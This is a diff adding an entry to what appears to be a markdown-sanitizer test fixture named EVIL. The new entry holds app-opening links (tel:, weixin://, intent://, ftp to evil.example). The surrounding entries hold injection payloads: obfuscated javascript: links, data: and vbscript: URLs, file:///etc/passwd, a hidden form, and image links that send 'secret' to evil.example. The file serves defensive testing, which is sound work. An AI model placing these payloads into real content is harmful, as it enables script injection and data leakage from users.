@@ -300,6 +300,7 @@ EVIL = {
     "a form": "<form action='/keys'><button>Click</button></form><style>* { display: none }</style>",
     "a script link": "[click](javascript:window.pwned=1) [click](JaVaScRiPt&#58;window.pwned=1) <javascript:pwned=1>",
     "a data link": "[click](data:text/html;base64,PHNjcmlwdD4=) [a](vbscript:x) [b](file:///etc/passwd)",
+    "a link that opens an app": "[call](tel:10086) [pay](weixin://dl/business) [x](intent://scan) <ftp://evil.example/>",
     "a link into the site": "[free quota](/recharge?amount=1) [x](//evil.example/) [y](#m)",
     "a foreign picture": "![secret](https://evil.example/?q=secret) ![s][1]\n\n[1]: https://evil.example/2",
     "a picture as data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
